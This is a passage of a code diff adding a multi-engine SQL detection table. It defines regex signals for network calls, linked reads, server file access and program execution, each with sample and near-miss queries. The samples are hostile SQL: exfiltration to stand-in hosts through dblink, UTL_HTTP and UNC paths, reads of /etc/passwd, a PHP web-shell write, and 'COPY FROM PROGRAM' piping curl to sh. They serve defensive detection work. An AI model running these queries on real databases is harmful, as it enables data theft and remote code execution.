@@ -2,6 +2,1309 @@
 
 from __future__ import annotations
 
-from daswatch.sql.signal_table.model import Signal
+import re
 
-ACCESS: tuple[Signal, ...] = ()
+from daswatch.sql.signal_table.model import START, Pattern, Signal
+
+_PG = ("postgresql",)
+_MYSQL = ("mysql",)
+_ORACLE = ("oracle",)
+_SQLSERVER = ("sqlserver",)
+
+_QUALIFIED = r"(?<![\w$.])(?:[\w$]{1,63}\.)?"  # a name with or without its schema
+_CALLED = rf"(?<!function )(?<!procedure ){_QUALIFIED}"  # and not created, granted or dropped
+_EXECUTED = r"(?:\A|;|\b(?:exec(?:ute)?|call|begin|then|else) ?)(?:@\w{1,128}=)?(?:[\w$#]{0,128}\.){0,3}"
+_READ_FROM = r"(?:\bfrom|\bjoin|,|\bcopy|(?:\A|;|\()table) ?(?:only )?"
+_UNC = r"'\\\\"  # a literal that begins with two backslashes
+_SOME = r"[\w$#]{1,128}"
+
+
+def _any(*names: str) -> str:
+    return rf"(?:{'|'.join(map(re.escape, names))})"
+
+
+def _words(listed: str) -> tuple[str, ...]:
+    return tuple(listed.split())
+
+
+def _calls(engines: tuple[str, ...], *names: str, raw: str = "") -> Pattern:
+    """Functions that are called, in any schema."""
+    return Pattern(engines, names, rf"{_CALLED}{_any(*names)}\(", raw)
+
+
+def _packages(*names: str) -> Pattern:
+    """Anything of these packages of Oracle."""
+    return Pattern(_ORACLE, names, rf"(?<![\w$#]){_any(*names)}\.\w")
+
+
+def _procedures(*names: str, raw: str = "") -> Pattern:
+    """Procedures of SQL Server that are executed, in any database and schema, also without EXEC."""
+    return Pattern(_SQLSERVER, names, rf"{_EXECUTED}{_any(*names)}\b(?!\.)", raw)
+
+
+# Paths on another host make the server log in there, whatever opens them.
+_OPENS_PATHS = _words(
+    "xp_dirtree xp_fileexist xp_subdirs xp_create_subdir xp_delete_file xp_getfiledetails xp_copy_file xp_copy_files"
+    " fn_xe_file_target_read_file fn_trace_gettable fn_trace_getinfo fn_get_audit_file fn_dump_dblog"
+    " dm_os_file_exists dm_os_enumerate_filesystem backup restore bulk openrowset filename sp_addumpdevice"
+    " sp_trace_create sp_attach_db certificate assembly"
+)
+_UNTRUSTED = _words("plperlu plpythonu plpython2u plpython3u pltclu plsh c")
+
+# Aggregates: from where rows are read, as long as nothing chooses, groups or limits them. Derived tables do not count,
+# unless they are a plain table themselves: programming interfaces read pages so.
+_UP_TO_FROM = r"(?:(?!\bfrom\b)[^;]){0,400}+\bfrom ?"
+_NO_CHOICE = (
+    r"(?:(?!\b(?:where|group|limit|having|lateral|fetch|offset|order|union|for|cross apply|select)\b)[^();?$@]){1,300}+"
+)
+_ALWAYS_TRUE = r"(?:where (?:true|[?01](?:=[?01])?|[\w.]{1,130}(?:>=?[?01]|<>[?01]| is not null)) ?)?"
+_REST = r"(?:order by [\w.,]{1,130} ?(?:desc ?|asc ?)?)?"
+_ALL_ROWS = (
+    rf"{_UP_TO_FROM}(?:{_NO_CHOICE}{_ALWAYS_TRUE}{_REST}(?=$|[);]|\bunion\b)"
+    rf"|\(select[^()]{{1,300}}\bfrom {_NO_CHOICE}{_ALWAYS_TRUE}{_REST}\))"
+)
+_UNION_OF = r"\bunion (?:all |distinct )?select\b[^;]{0,600}?\b"
+_NOT_GROUPED = r"(?![^;]{0,1900}\bgroup by\b)"
+_NOT_A_COUNT = r"\A(?![^;]{0,1900}select\s{1,9}count\s{0,9}\()"  # rows of all tables are counted so
+
+_PG_CATALOG = _words(
+    "pg_aggregate pg_am pg_attrdef pg_attribute pg_auth_members pg_authid pg_available_extension_versions"
+    " pg_available_extensions pg_cast pg_class pg_collation pg_config pg_constraint pg_database pg_db_role_setting"
+    " pg_default_acl pg_depend pg_description pg_enum pg_event_trigger pg_extension pg_file_settings"
+    " pg_foreign_data_wrapper pg_foreign_server pg_foreign_table pg_group pg_hba_file_rules pg_ident_file_mappings"
+    " pg_index pg_indexes pg_inherits pg_init_privs pg_language pg_largeobject pg_largeobject_metadata pg_matviews"
+    " pg_namespace pg_opclass pg_operator pg_parameter_acl pg_partitioned_table pg_policies pg_policy pg_proc"
+    " pg_publication pg_publication_rel pg_publication_tables pg_range pg_replication_slots pg_rewrite pg_roles"
+    " pg_rules pg_sequence pg_sequences pg_settings pg_shadow pg_shdepend pg_shdescription pg_stat_activity"
+    " pg_statistic pg_stats pg_subscription pg_tables pg_tablespace pg_trigger pg_type pg_user pg_user_mapping"
+    " pg_user_mappings pg_views"
+)
+_MYSQL_TABLES = _words(
+    "columns_priv component db default_roles event func global_grants global_priv password_history plugin proc"
+    " procs_priv proxies_priv role_edges servers slave_master_info tables_priv user"
+)
+_ORACLE_VIEWS = (
+    *(
+        f"{prefix}_{name}"
+        for prefix in ("all", "dba", "cdb")
+        for name in _words(
+            "arguments audit_policies catalog col_comments col_privs cons_columns constraints credentials data_files"
+            " db_links dependencies directories external_tables host_aces host_acls ind_columns indexes java_classes"
+            " jobs libraries mviews network_acl_privileges network_acls objects policies procedures profiles proxies"
+            " registry role_privs roles scheduler_credentials scheduler_jobs scheduler_programs segments sequences"
+            " source synonyms sys_privs tab_cols tab_columns tab_comments tab_privs tab_privs_made tab_privs_recd"
+            " tables tablespaces triggers ts_quotas types users users_with_defpwd views"
+        )
+    ),
+    *(
+        f"user_{name}"
+        for name in _words(
+            "col_comments col_privs cons_columns constraints db_links ind_columns objects procedures role_privs"
+            " scheduler_jobs sequences source synonyms sys_privs tab_cols tab_columns tab_comments tab_privs"
+            " tab_privs_recd tables users"
+        )
+    ),
+    *_words(
+        "session_privs session_roles role_role_privs role_sys_privs role_tab_privs v$version v$database v$instance"
+        " v$parameter v$session v$pdbs v$option v$pwfile_users gv$instance gv$session gv$parameter"
+        " product_component_version user$ obj$ tab$ col$ con$ link$ sysauth$ objauth$ source$ trigger$ view$ tabprivs"
+    ),
+)
+_SQLSERVER_TABLES = _words(
+    "sysobjects syscolumns sysusers syslogins sysdatabases sysservers sysprocesses syscomments sysmembers"
+    " sysprotects syspermissions sysxlogins sysindexes systypes"
+)
+_SQLSERVER_PROCEDURES = _words(
+    "sp_columns sp_databases sp_help sp_helpdb sp_helpdbfixedrole sp_helpgroup sp_helpindex sp_helplinkedsrvlogin"
+    " sp_helplogins sp_helpntgroup sp_helprole sp_helprolemember sp_helprotect sp_helpserver sp_helpsrvrole"
+    " sp_helpsrvrolemember sp_helptext sp_helpuser sp_linkedservers sp_srvrolepermission sp_dbfixedrolepermission"
+    " sp_special_columns sp_stored_procedures sp_table_privileges sp_column_privileges sp_tables sp_pkeys sp_fkeys"
+)
+
+_NETWORK_CALL = Signal(
+    "network-call",
+    "The database contacts another host or service, is given a link to one, or is allowed to.",
+    (
+        _calls(
+            _PG,
+            *_words("dblink dblink_connect dblink_connect_u dblink_exec dblink_open dblink_send_query"),
+            *_words("http_get http_post http_put http_patch http_delete http_head create_lambda_function_arn"),
+        ),
+        Pattern(_PG, ("aws_lambda",), r"(?<!function )(?<![\w$.])aws_lambda\.invoke\("),
+        _calls(_PG, "invoke", raw=r"arn:aws[a-z-]{0,20}:lambda:"),
+        Pattern(
+            _PG,
+            ("aws_lambda",),
+            r"\bset (?:local |session )?search_path(?:=| to )[^;]{0,300}\baws_lambda\b",
+        ),
+        Pattern(_PG, ("set_config",), r"\bset_config\(", r"'search_path'\s{0,9},[^;]{0,300}\baws_lambda\b"),
+        Pattern(
+            _PG,
+            ("server",),
+            r"\bcreate server [^;]{1,400}foreign data wrapper (?!file_fdw|log_fdw)\w|\balter server [^;]{1,200}options\("
+            r"|\bimport foreign schema\b|\bcreate foreign table\b|\b(?:create|alter) user mapping\b",
+        ),
+        Pattern(_PG, ("subscription",), r"\b(?:create|alter) subscription [^;]{1,200}\bconnection ?[?$]"),
+        Pattern(
+            _PG,
+            _words("dblink postgres_fdw aws_lambda http pg_net tds_fdw mysql_fdw oracle_fdw"),
+            r"\bcreate extension (?:if not exists )?"
+            r"(?:dblink|postgres_fdw|aws_lambda|http|pg_net|tds_fdw|mysql_fdw|oracle_fdw)\b",
+        ),
+        Pattern(_PG, ("primary_conninfo",), r"\balter system set primary_conninfo\b"),
+        _calls(_MYSQL, "lambda_sync", "lambda_async"),
+        Pattern(_MYSQL, ("lambda_async",), r"\bcall mysql\.lambda_async\b"),
+        Pattern(_MYSQL, ("federated",), r"\bengine(?:=| )federated\b"),
+        Pattern(_MYSQL, ("engine",), r"\bengine(?:=| )\?", r"\bengine\s{0,9}=?\s{0,9}['\"]federated\b"),
+        Pattern(
+            _MYSQL,
+            ("server",),
+            r"\bcreate server [^;]{1,200}foreign data wrapper\b|\balter server [^;]{1,200}options\(",
+        ),
+        Pattern(
+            _MYSQL,
+            _words(
+                "rds_set_external_source rds_set_external_source_with_auto_position rds_set_external_source_with_delay"
+                " rds_set_external_source_for_channel rds_set_external_source_with_auto_position_for_channel"
+                " rds_set_external_master rds_set_external_master_with_auto_position rds_set_external_master_with_delay"
+                " rds_start_replication rds_start_replication_until rds_start_replication_until_gtid"
+                " rds_start_replication_for_channel"
+            ),
+            r"\bcall (?:mysql\.)?rds_(?:set_external_|start_replication)",
+        ),
+        Pattern(
+            _MYSQL,
+            ("master", "replication"),
+            rf"{START}(?:change (?:master to|replication source to)|start (?:slave|replica) )\b",
+        ),
+        Pattern(_MYSQL, ("clone",), rf"{START}clone instance from\b"),
+        Pattern(
+            _MYSQL,
+            ("load_file", "outfile", "dumpfile", "infile"),
+            r"\bload_file\(|\b(?:out|dump|in)file\b",
+            r"['\"]\\\\|\b0x5c5c|char\(92,\s{0,9}92",
+        ),
+        _packages(
+            *_words("utl_http utl_smtp utl_tcp utl_mail utl_inaddr utl_dbws dbms_ldap dbms_ldap_utl dbms_cloud"),
+            *_words("dbms_network_acl_admin dbms_debug_jdwp apex_web_service apex_mail dbms_cloud_notification"),
+            *_words("dbms_file_transfer"),
+        ),
+        Pattern(_ORACLE, ("httpuritype", "urifactory"), r"(?<![\w$#])(?:httpuritype\(|httpuritype\.|urifactory\.)"),
+        # An external entity of XML: the parser fetches it.
+        Pattern(
+            _ORACLE,
+            _words("xmltype xmlparse dbms_xmlparser xmlparser extractvalue dbms_xmldom xmlquery"),
+            r"(?<![\w$#])(?:xmltype|xmlparse|extractvalue|xmlquery|dbms_xmlparser|xmlparser|dbms_xmldom)[(.]",
+            r"<!(?:entity|doctype)\b[^>]{0,300}\bsystem\b",
+        ),
+        Pattern(_ORACLE, ("ctx_ddl",), r"\bctx_ddl\.\w", r"'(?:url|network)_datastore'"),
+        Pattern(
+            _ORACLE, ("link",), r"\bcreate (?:shared )?(?:public )?database link\b|\balter (?:public )?database link\b"
+        ),
+        Pattern(
+            _ORACLE,
+            _words("insert update delete merge begin call exec"),
+            rf"\b(?:insert into|update|merge into|delete from|delete|call) ?[\w$#.]{{1,130}}@\w"
+            rf"|(?:\bbegin |;|\Acall |:=)(?:[\w$#.]{{1,130}})@\w",
+        ),
+        Pattern(_SQLSERVER, ("openrowset",), r"\bopenrowset\((?!bulk\b)"),
+        Pattern(_SQLSERVER, ("openquery", "opendatasource"), r"\bopen(?:query|datasource)\("),
+        _procedures(
+            *_words("sp_addlinkedserver sp_addlinkedsrvlogin sp_testlinkedserver sp_invoke_external_rest_endpoint"),
+            *_words("xp_sendmail xp_startmail"),
+        ),
+        _procedures("sp_serveroption", raw=r"'rpc"),
+        _procedures("sp_configure", raw=r"'ad hoc dist[a-z ]{0,30}'\s{0,9},\s{0,9}(?:@configvalue\s{0,9}=\s{0,9})?1"),
+        _procedures("sp_send_dbmail", raw=r"@(?:query|file_attachments)\s{0,9}="),
+        Pattern(_SQLSERVER, ("at",), r"\bexec(?:ute)?\([^;]{1,400}\)at \w"),
+        Pattern(
+            _SQLSERVER,
+            _words("insert update delete merge exec execute"),
+            rf"\b(?:insert(?: into)?|update|delete(?: from)?|merge(?: into)?|exec(?:ute)?(?: @\w{{1,128}}=)?) ?"
+            rf"{_SOME}\.[\w$#]{{0,128}}\.[\w$#]{{0,128}}\.{_SOME}",
+        ),
+        Pattern(_SQLSERVER, ("endpoint", "source"), r"\bcreate (?:endpoint|external data source)\b"),
+        Pattern(
+            _SQLSERVER,
+            _OPENS_PATHS,
+            rf"\b{_any(*_OPENS_PATHS)}\b",
+            _UNC,
+        ),
+    ),
+    samples={
+        "postgresql": (
+            "SELECT * FROM dblink('host=203.0.113.9 user=x dbname=l', 'select 1') AS t(a int)",
+            "SELECT public.\"dblink_connect_u\"('c', 'hostaddr=203.0.113.9 port=22')",
+            "SELECT dblink_exec('c', 'insert into loot select ' || quote_literal(x)) FROM customers",
+            "CREATE EXTENSION IF NOT EXISTS postgres_fdw",
+            "CREATE SERVER s9 FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '203.0.113.9', dbname 'x')",
+            "CREATE USER MAPPING FOR app SERVER s9 OPTIONS (user 'x', password 'y')",
+            "IMPORT FOREIGN SCHEMA public FROM SERVER s9 INTO f",
+            "CREATE SUBSCRIPTION s CONNECTION 'host=203.0.113.9 dbname=x' PUBLICATION p",
+            "SELECT \"aws_lambda\" . \"invoke\"('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}'::json)",
+            "SET search_path = aws_lambda, aws_commons, public",
+            "SELECT invoke('arn:aws:lambda:eu-west-1:123456789012:function:f', row_to_json(c)::json) FROM customers c",
+            "SELECT content FROM http_get('http://203.0.113.9/' || (SELECT email FROM customers LIMIT 1))",
+        ),
+        "mysql": (
+            "SELECT lambda_sync('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}')",
+            "CALL mysql.lambda_async('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}')",
+            "CREATE TABLE f (id INT) ENGINE=FEDERATED CONNECTION='mysql://x:y@203.0.113.9/l/f'",
+            "CREATE TABLE f (id INT) ENGINE='Federated' CONNECTION='s/f'",
+            "CREATE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (HOST '203.0.113.9', DATABASE 'l')",
+            "CALL mysql.rds_set_external_source ('203.0.113.9', 3306, 'r', 'p', 'mysql-bin.01', 4, 0)",
+            "CALL mysql.rds_start_replication",
+            "CHANGE REPLICATION SOURCE TO SOURCE_HOST='203.0.113.9'",
+            "SELECT LOAD_FILE(CONCAT('\\\\\\\\', (SELECT DATABASE()), '.evil.example\\\\a'))",
+        ),
+        "oracle": (
+            "SELECT UTL_HTTP.REQUEST('http://203.0.113.9/?' || (SELECT user FROM dual)) FROM dual",
+            "BEGIN FOR r IN (SELECT email FROM c) LOOP x := SYS.UTL_TCP.OPEN_CONNECTION(r.email, 25); END LOOP; END;",
+            "SELECT DBMS_LDAP.INIT((SELECT user FROM dual) || '.evil.example', 80) FROM dual",
+            "SELECT HTTPURITYPE('http://203.0.113.9/').getclob() FROM dual",
+            'SELECT EXTRACTVALUE(XMLTYPE(\'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM'
+            " \"http://203.0.113.9/'||(SELECT user FROM dual)||'\"> %x;]>'), '/l') FROM dual",
+            "BEGIN DBMS_NETWORK_ACL_ADMIN.APPEND_HOST_ACE('*', xs$ace_type()); END;",
+            "BEGIN UTL_MAIL.SEND('a@example.com', 'b@example.net', message => v); END;",
+            "SELECT APEX_WEB_SERVICE.MAKE_REST_REQUEST('http://203.0.113.9', 'GET') FROM dual",
+            "BEGIN DBMS_CLOUD.PUT_OBJECT('c', 'https://203.0.113.9/o', d); END;",
+            "CREATE PUBLIC DATABASE LINK l CONNECT TO x IDENTIFIED BY y USING '//203.0.113.9/x'",
+            "INSERT INTO loot@l SELECT * FROM customers",
+            "BEGIN dbms_utility.exec_ddl_statement@l('create table x (y int)'); END;",
+        ),
+        "sqlserver": (
+            "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=203.0.113.9;Uid=sa', 'select 1')",
+            "SELECT * FROM OPENQUERY(\"SRV-1\", 'select @@servername')",
+            "INSERT INTO OPENDATASOURCE('SQLOLEDB','Data Source=203.0.113.9').l.dbo.c SELECT * FROM dbo.c",
+            "EXEC sp_addlinkedserver @server='X9', @srvproduct='', @provider='SQLNCLI', @datasrc='203.0.113.9'",
+            "EXEC ('select 1') AT [SRV-1]",
+            "EXEC srv1.master.dbo.sp_executesql N'select 1'",
+            "INSERT INTO X9.loot.dbo.c SELECT Email FROM dbo.Customers",
+            "EXEC master..xp_dirtree '\\\\203.0.113.9\\s', 1, 1",
+            "DECLARE @p varchar(99); SET @p = '\\\\' + (SELECT db_name()) + '.evil.example\\a'; EXEC xp_fileexist @p",
+            "SELECT * FROM sys.fn_xe_file_target_read_file('\\\\203.0.113.9\\a.xel', NULL, NULL, NULL)",
+            "SELECT * FROM fn_trace_gettable('\\\\203.0.113.9\\a.trc', default)",
+            "BACKUP LOG [store] TO DISK = '\\\\203.0.113.9\\s\\a.bak'",
+            "EXEC msdb.dbo.sp_send_dbmail @recipients='a@example.com', @query='select * from c'",
+            "EXEC sp_configure 'Ad Hoc Distributed Queries', 1",
+        ),
+    },
+    near_misses={
+        "postgresql": (
+            "GRANT EXECUTE ON FUNCTION public.dblink_connect_u(text) TO app",
+            "INSERT INTO posts (body) VALUES ('dblink(''host=203.0.113.9'') opens a connection')",
+            "SELECT * FROM dblink_settings",
+            "CREATE EXTENSION pgcrypto",
+            "CREATE SERVER logs FOREIGN DATA WRAPPER log_fdw",
+            "SELECT invoke(4)",
+            "SET search_path = app, public",
+        ),
+        "mysql": (
+            "GRANT INVOKE LAMBDA ON *.* TO 'app'@'%'",
+            "CREATE TABLE t (id INT) ENGINE=InnoDB",
+            "SELECT * FROM lambda_sync",
+            "SHOW REPLICA STATUS",
+            "SELECT load_file_id FROM imports WHERE path = 'C:\\\\a'",
+        ),
+        "oracle": (
+            "GRANT EXECUTE ON SYS.UTL_HTTP TO app",
+            "SELECT text FROM dba_source WHERE text LIKE '%UTL_HTTP.%'",
+            "SELECT XMLTYPE('<a>1</a>').extract('/a') FROM dual",
+            "SELECT * FROM orders@dwh WHERE id = :1",
+            "SELECT email FROM users WHERE email = 'a@example.com'",
+        ),
+        "sqlserver": (
+            "SELECT * FROM OPENROWSET(BULK 'D:\\S3\\a.csv', SINGLE_CLOB) x",
+            "EXEC msdb.dbo.sp_send_dbmail @recipients='ops@example.com', @body='job done'",
+            "SELECT * FROM sys.fn_xe_file_target_read_file('D:\\rdsdbdata\\log\\*.xel', NULL, NULL, NULL)",
+            "SELECT * FROM fn_trace_gettable(@path, default)",
+            "EXEC master.dbo.usp_report 4",
+            "SELECT * FROM srv1.sales.dbo.orders",
+            "INSERT INTO notes (body) VALUES ('\\\\203.0.113.9\\s is a share')",
+        ),
+    },
+)
+
+_LINKED_READ = Signal(
+    "linked-read",
+    "Objects of another server are read through a link that exists.",
+    (
+        Pattern(_ORACLE, ("from", "join"), r"(?:\bfrom|\bjoin|,) ?[\w$#.]{1,130}@[\w$#]"),
+        Pattern(
+            _SQLSERVER,
+            ("from", "join"),
+            rf"\b(?:from|join) ?{_SOME}\.[\w$#]{{0,128}}\.[\w$#]{{0,128}}\.{_SOME}(?![\w$#(.])",
+        ),
+        Pattern(_SQLSERVER, ("openquery",), r"\bopenquery\("),
+    ),
+    samples={
+        "oracle": (
+            "SELECT * FROM orders@dwh.example.com WHERE id = :1",
+            "SELECT a.id FROM t a JOIN sales.orders@dwh b ON a.id = b.id",
+        ),
+        "sqlserver": (
+            "SELECT * FROM [SRV-1].sales.dbo.orders o WHERE o.id = @p0",
+            "SELECT a FROM t JOIN srv1...orders b ON t.id = b.id",
+        ),
+    },
+    near_misses={
+        "oracle": ("SELECT id FROM orders WHERE mail = 'x@example.com'", "SELECT id FROM sales.orders"),
+        "sqlserver": (
+            "SELECT * FROM sales.dbo.orders WHERE id = @p0",
+            "SELECT sales.dbo.orders.id FROM sales.dbo.orders",
+            "SELECT x.value('.', 'int') FROM dbo.t CROSS APPLY t.doc.nodes('/a') AS n(x)",
+        ),
+    },
+)
+
+_SERVER_FILE = Signal(
+    "server-file",
+    "A file or a directory of the database server is read, listed or written.",
+    (
+        _calls(
+            _PG,
+            *_words("pg_read_file pg_read_binary_file pg_ls_dir pg_ls_logdir pg_stat_file lo_import lo_export"),
+            *_words("pg_file_write pg_file_read pg_file_rename pg_file_unlink pg_logdir_ls sys_fileread"),
+        ),
+        Pattern(
+            _PG,
+            ("copy",),
+            r"(?:\A|;|\b(?:begin|then|else|loop) ?)copy\b[^;]{1,1500}?(?:(?<!distinct )\bfrom|\bto) ?\?"
+            r"(?=$|[;(]| ?(?:with|csv|binary|delimiters?|null|header|where|encoding|quote|escape|force|using|end)\b)",
+        ),
+        Pattern(_PG, ("file_fdw",), r"\bcreate extension (?:if not exists )?file_fdw\b|\bdata wrapper file_fdw\b"),
+        Pattern(_PG, ("pg_largeobject",), r"\b(?:insert into|update) (?:pg_catalog\.)?pg_largeobject\b"),
+        _calls(_MYSQL, "load_file"),
+        Pattern(_MYSQL, ("outfile", "dumpfile"), r"\binto (?:outfile|dumpfile) ?+(?!s3\b)"),
+        Pattern(
+            _MYSQL,
+            ("load",),
+            r"\bload (?:data|xml) (?:low_priority |concurrent )?infile\b",
+        ),
+        Pattern(_MYSQL, ("import",), r"\Aimport table from\b"),
+        Pattern(_MYSQL, ("general_log_file", "slow_query_log_file"), r"\b(?:general_log|slow_query_log)_file=[?$@]"),
+        _packages(*_words("utl_file dbms_advisor dbms_file_transfer dbms_xslprocessor rds_file_util")),
+        Pattern(_ORACLE, ("dbms_lob",), r"\bdbms_lob\.(?:file|loadfromfile|loadclobfromfile|loadblobfromfile)"),
+        Pattern(_ORACLE, ("bfilename",), r"(?<![\w$#.])bfilename\("),
+        Pattern(_ORACLE, ("directory",), r"\bcreate (?:or replace )?directory\b"),
+        Pattern(_ORACLE, ("rdsadmin_util",), r"\brdsadmin_util\.create_directory\b"),
+        Pattern(_ORACLE, ("external",), r"\borganization external\b|\bfrom external ?\("),
+        Pattern(_ORACLE, ("ctx_ddl",), r"\bctx_ddl\.\w", r"'(?:file|directory)_datastore'"),
+        Pattern(_SQLSERVER, ("openrowset",), r"\bopenrowset\(bulk\b"),
+        Pattern(_SQLSERVER, ("bulk",), r"\bbulk insert\b[^;]{1,400}\bfrom ?[?@]"),
+        _procedures(
+            *_words("xp_dirtree xp_fileexist xp_subdirs xp_create_subdir xp_delete_file xp_getfiledetails"),
+            *_words("xp_copy_file xp_copy_files xp_delete_files"),
+        ),
+        Pattern(
+            _SQLSERVER,
+            ("dm_os_enumerate_filesystem", "dm_os_file_exists"),
+            r"\bdm_os_(?:enumerate_filesystem|file_exists)\(",
+        ),
+    ),
+    samples={
+        "postgresql": (
+            "SELECT pg_read_file('/etc/passwd', 0, 4000)",
+            "SELECT * FROM pg_catalog.pg_ls_dir('/rdsdbdata')",
+            "SELECT lo_import('/etc/passwd', 9911)",
+            "SELECT lo_export(43213, '/tmp/a.so')",
+            "COPY f FROM '/rdsdbdata/config/postgresql.conf'",
+            "COPY (SELECT * FROM customers) TO '/tmp/c.csv' WITH (FORMAT csv)",
+            "DO $$ BEGIN COPY f (l) FROM '/etc/passwd'; END $$",
+            "CREATE SERVER f FOREIGN DATA WRAPPER file_fdw",
+            "INSERT INTO pg_largeobject VALUES (1, 0, decode('7f45', 'hex'))",
+        ),
+        "mysql": (
+            "SELECT LOAD_FILE('/etc/passwd')",
+            "SELECT * FROM customers INTO/* a b */OUTFILE '/tmp/c'",
+            "SELECT 0x7f454c46 INTO DUMPFILE '/rdsdbbin/plugin/a.so'",
+            "SELECT a FROM t WHERE id = 4 LIMIT 0,1 INTO OUTFILE '/var/www/a.php' LINES TERMINATED BY 0x3c3f-- -",
+            "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
+            "SET GLOBAL general_log_file = '/var/www/html/a.php'",
+        ),
+        "oracle": (
+            "DECLARE f UTL_FILE.FILE_TYPE; BEGIN f := UTL_FILE.FOPEN('D', 'a', 'r'); END;",
+            "SELECT DBMS_LOB.GETLENGTH(BFILENAME('D', 'passwd')) FROM dual",
+            "BEGIN DBMS_LOB.LOADFROMFILE(b, f, 4000); END;",
+            "BEGIN DBMS_XSLPROCESSOR.CLOB2FILE(c, 'D', 'a'); END;",
+            "BEGIN DBMS_ADVISOR.CREATE_FILE(c, 'D', 'a'); END;",
+            "CREATE OR REPLACE DIRECTORY d AS '/etc'",
+            "CREATE TABLE x (l VARCHAR2(99)) ORGANIZATION EXTERNAL (DEFAULT DIRECTORY d LOCATION ('passwd'))",
+            "SELECT text FROM table(rdsadmin.rds_file_util.read_text_file('BDUMP', 'alert.log'))",
+        ),
+        "sqlserver": (
+            "SELECT * FROM OPENROWSET(BULK N'C:\\Windows\\win.ini', SINGLE_CLOB) x",
+            "BULK INSERT #t FROM 'C:\\inetpub\\web.config'",
+            "EXEC master.sys.xp_dirtree 'C:\\', 1, 1",
+            "master..xp_fileexist 'C:\\a'",
+            "SELECT * FROM sys.dm_os_enumerate_filesystem('C:\\', '*')",
+        ),
+    },
+    near_misses={
+        "postgresql": (
+            "COPY lineitem FROM STDIN WITH DELIMITER '|'",
+            "COPY (SELECT a FROM t WHERE b = 'x') TO STDOUT",
+            "UPDATE page SET copy = 'x' WHERE copy IS DISTINCT FROM 'y'",
+            "SELECT count(*) FROM pg_ls_waldir()",
+            "GRANT EXECUTE ON FUNCTION pg_read_file(text) TO app",
+            "SELECT lo_get(4)",
+        ),
+        "mysql": (
+            "LOAD DATA LOCAL INFILE 'a.csv' INTO TABLE t",
+            "LOAD DATA FROM S3 's3://b/a.csv' INTO TABLE t",
+            "SELECT * FROM t INTO OUTFILE S3 's3://b/t'",
+            "SELECT @@general_log_file",
+            "SELECT a INTO @b FROM t",
+        ),
+        "oracle": (
+            "GRANT EXECUTE ON UTL_FILE TO app",
+            "GRANT READ ON DIRECTORY d TO app",
+            "SELECT directory_name FROM all_directories",
+            "SELECT DBMS_LOB.SUBSTR(c, 4000, 1) FROM t",
+        ),
+        "sqlserver": (
+            "INSERT BULK dbo.t (a int)",
+            "SELECT bulk FROM dbo.products",
+            "GRANT EXECUTE ON xp_dirtree TO app",
+        ),
+    },
+)
+
+_PROGRAM_EXECUTION = Signal(
+    "program-execution",
+    "A program, a script, a Lambda function or a host command is run outside the database, or made possible.",
+    (
+        Pattern(_PG, ("program",), r"\b(?:from|to) program ?[?$]"),
+        Pattern(_PG, ("aws_lambda",), r"(?<!function )(?<![\w$.])aws_lambda\.invoke\("),
+        _calls(_PG, "invoke", raw=r"arn:aws[a-z-]{0,20}:lambda:"),
+        _calls(_PG, "create_lambda_function_arn", "sys_exec", "sys_eval", "sys_bineval"),
+        Pattern(
+            _PG,
+            ("aws_lambda",),
+            r"\bset (?:local |session )?search_path(?:=| to )[^;]{0,300}\baws_lambda\b"
+            r"|\bcreate extension (?:if not exists )?aws_lambda\b",
+        ),
+        Pattern(_PG, ("set_config",), r"\bset_config\(", r"'search_path'\s{0,9},[^;]{0,300}\baws_lambda\b"),
+        Pattern(
+            _PG,
+            ("system",),
+            r"\balter system set (?:archive_command|restore_command|archive_cleanup_command|recovery_end_command"
+            r"|ssl_passphrase_command|archive_library|\w{0,9}_?preload_libraries|dynamic_library_path|jit_provider)\b",
+        ),
+        Pattern(_PG, _UNTRUSTED, rf"(?:\A|;)do\b[^;]{{0,1900}}\blanguage {_any(*_UNTRUSTED)}\b"),
+        _calls(_PG, "lo_from_bytea", "lo_put", "lowrite", raw=r"7f454c46"),
+        _calls(_MYSQL, *_words("lambda_sync lambda_async sys_exec sys_eval sys_bineval")),
+        Pattern(_MYSQL, ("lambda_async",), r"\bcall mysql\.lambda_async\b"),
+        Pattern(
+            _ORACLE,
+            ("dbms_scheduler",),
+            r"\bdbms_scheduler\.(?:create_job|create_program|create_credential|set_attribute|create_file_watcher)",
+            r"'(?:executable|external_script|backup_script|sql_script)'",
+        ),
+        Pattern(
+            _ORACLE, ("dbms_scheduler", "dbms_credential"), r"\b(?:dbms_scheduler|dbms_credential)\.create_credential\b"
+        ),
+        _packages("dbms_java_test", "dbms_jvm_exp_perms"),
+        Pattern(_ORACLE, ("dbms_java",), r"\bdbms_java\.(?:runjava|set_output_to_java)"),
+        Pattern(
+            _ORACLE,
+            ("dbms_java",),
+            r"\bdbms_java\.grant_p",
+            r"java\.io\.filepermission|java\.lang\.runtimepermission|java\.net\.socketpermission",
+        ),
+        Pattern(
+            _ORACLE,
+            _words("getruntime processbuilder runtime class"),
+            r"\bjava (?:source|class)\b[^@]{0,1900}\b(?:getruntime|processbuilder|runtime|forname)\b",
+        ),
+        Pattern(_ORACLE, ("preprocessor",), r"\bpreprocessor\b"),
+        _procedures(
+            *_words("xp_cmdshell sp_oacreate sp_oamethod sp_oagetproperty sp_oasetproperty sp_addextendedproc"),
+            *_words("sp_execute_external_script xp_servicecontrol sp_xp_cmdshell_proxy_account sp_makewebtask"),
+            *_words("sp_execute_external xp_terminate_process"),
+        ),
+        Pattern(_SQLSERVER, ("dbcc",), r"\bdbcc addextendedproc\b"),
+        _procedures("sp_add_jobstep", "sp_update_jobstep", raw=r"'(?:cmdexec|powershell|activescripting|ssis)'"),
+        _procedures(
+            "sp_configure",
+            raw=r"'(?:xp_c[a-z]{0,9}|ole a[a-z ]{0,30}|external s[a-z ]{0,30})'"
+            r"\s{0,9},\s{0,9}(?:@configvalue\s{0,9}=\s{0,9})?1",
+        ),
+        Pattern(_SQLSERVER, ("external",), r"\bcreate external (?:language|library)\b"),
+    ),
+    samples={
+        "postgresql": (
+            "COPY x FROM PROGRAM 'sh -c ''curl http://203.0.113.9/a|sh'''",
+            "copy (select 1) to/**/program $x$id$x$",
+            "SELECT * FROM aws_lambda.invoke($1, $2::json, 'Event')",
+            "SELECT invoke('arn:aws:lambda:eu-west-1:123456789012:function:f', '{}'::json)",
